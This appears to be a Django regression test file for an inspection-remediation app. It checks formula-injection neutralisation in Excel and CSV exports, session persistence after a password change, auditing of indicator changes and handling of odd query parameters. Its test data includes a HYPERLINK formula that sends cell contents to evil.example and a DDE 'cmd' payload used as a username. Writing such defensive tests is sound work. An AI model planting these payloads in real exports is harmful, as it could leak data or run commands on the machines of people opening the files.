"""Regressions found by the code review: formula injection, admin session after a password
change, indicator changes audited, odd query parameters, import repositioning audited."""

import csv
import io
import zipfile

from django.test import Client
from django.urls import reverse

from rectify.audit.models import AuditEntry
from rectify.measures.services import progress_report_submit
from rectify.orgs.models import User
from tests.factories import IndicatorFactory, MeasureFactory

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_excel_export_writes_formulas_as_text(client, cast, inspection, units):
    MeasureFactory(finding__inspection=inspection, lead_department=units.enforcement, text=FORMULA)
    client.force_login(cast.office)
    content = client.get(reverse("reports:ledger_export")).content
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet


def test_audit_csv_neutralises_formulas(client, cast):
    Client().post("/accounts/login/", {"username": "=cmd|' /C calc'!A0", "password": "x"})
    client.force_login(cast.auditadmin)
    body = b"".join(client.get("/audit/export.csv").streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith("=") for cell in cells)


def test_administrator_stays_logged_in_after_changing_password(client, cast):
    assert (
        client.post(
            "/accounts/login/", {"username": "sysadmin", "password": "Passw0rd!x"}
        ).status_code
        == 302
    )
    response = client.post(
        "/accounts/password/",
        {
            "old_password": "Passw0rd!x",
            "new_password1": "Xitong#2026x",
            "new_password2": "Xitong#2026x",
        },
    )
    assert response.status_code == 302
    assert client.get("/manage/users/").status_code == 200
    assert User.objects.get(pk=cast.sysadmin.pk).current_session_key == client.session.session_key


def test_indicator_changes_are_audited(cast, measure):
    indicator = IndicatorFactory(
        measure=measure, name="历史违建", unit="宗", target_value=68, current_value=10
    )
    report = progress_report_submit(
        measure=measure,
        actor=cast.reporter,
        text="已整治35宗。",
        indicator_values={indicator.pk: 35},
    )
    entry = AuditEntry.objects.get(code="progress_report.submitted", object_id=str(report.pk))
    assert entry.after["indicators"] == {"历史违建": ["10.00", "35"]}


def test_odd_query_parameters_are_not_errors(client, cast, measure):
    client.force_login(cast.auditadmin)
    assert client.get("/audit/", {"until": "9999-12-31"}).status_code == 200
    client.force_login(cast.office)
    huge = "99999999999999999999"
    for name in ["department", "person", "inspection", "finding"]:
        assert client.get("/api/measures/", {name: huge}).status_code == 400, name
